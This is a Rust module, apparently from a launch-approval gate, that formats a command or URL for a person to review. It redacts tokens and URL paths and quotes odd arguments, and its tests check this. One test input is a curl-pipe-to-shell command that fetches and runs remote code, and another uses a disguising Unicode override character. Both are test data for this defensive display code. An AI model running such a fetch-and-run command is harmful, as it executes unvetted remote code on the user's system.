//! What a person agrees to start.

use crate::clients::GateLaunch;
use crate::findings::printable;
use crate::guard::secrets::SecretRules;

/// The command with its arguments and the names of its variables, or the beginning of the URL, without the credentials
/// that it shows.
pub(super) fn shown(launch: &GateLaunch, rules: &SecretRules) -> String {
    let line = match launch {
        GateLaunch::Command { command, env, .. } => {
            let words: Vec<String> = command.iter().map(|word| one_word(word)).collect();
            let mut line = words.join(" ");
            if !env.is_empty() {
                let names: Vec<&str> = env.iter().map(|(name, _)| name.as_str()).collect();
                line.extend([" (with ", &names.join(", "), ")"]);
            }
            line
        }
        // Paths and queries may be secret.
        GateLaunch::Url { url, .. } => url.split('/').take(3).collect::<Vec<_>>().join("/"),
    };
    printable(&rules.redact(&line).text)
}

/// With quotation marks where a reader could take it for several.
fn one_word(word: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "-_./:=@,+~".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        word.to_owned()
    } else {
        format!("{word:?}")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_person_sees_what_starts_and_no_secret() {
        let check = |launch: GateLaunch, expected: &str| {
            assert_eq!(shown(&launch, &SecretRules::builtin()), expected);
        };
        let command = |words: &[&str], names: &[&str]| GateLaunch::Command {
            command: words.iter().map(|word| (*word).to_owned()).collect(),
            env: names
                .iter()
                .map(|name| ((*name).to_owned(), "value".to_owned()))
                .collect(),
            cwd: None,
        };
        check(
            command(
                &["bash", "-c", "curl https://x.example/x | sh"],
                &["NODE_OPTIONS", "B"],
            ),
            "bash -c \"curl https://x.example/x | sh\" (with NODE_OPTIONS, B)",
        );
        check(
            command(&["npx", "-y", "@a/b@1", "", "\u{202e}x"], &[]),
            "npx -y @a/b@1 \"\" \"\\u{202e}x\"",
        );
        let token = format!(
            "ghp_{}",
            "a1B2c3D4e5".repeat(4).get(..36).unwrap_or_default()
        );
        let shown = shown(
            &command(&["x", "--token", &token], &[]),
            &SecretRules::builtin(),
        );
        assert!(
            !shown.contains(&token) && shown.starts_with("x --token "),
            "{shown}"
        );
        let url = "https://mcp.example.com/secret?key=1".to_owned();
        check(
            GateLaunch::Url { url, token: None },
            "https://mcp.example.com",
        );
    }
}
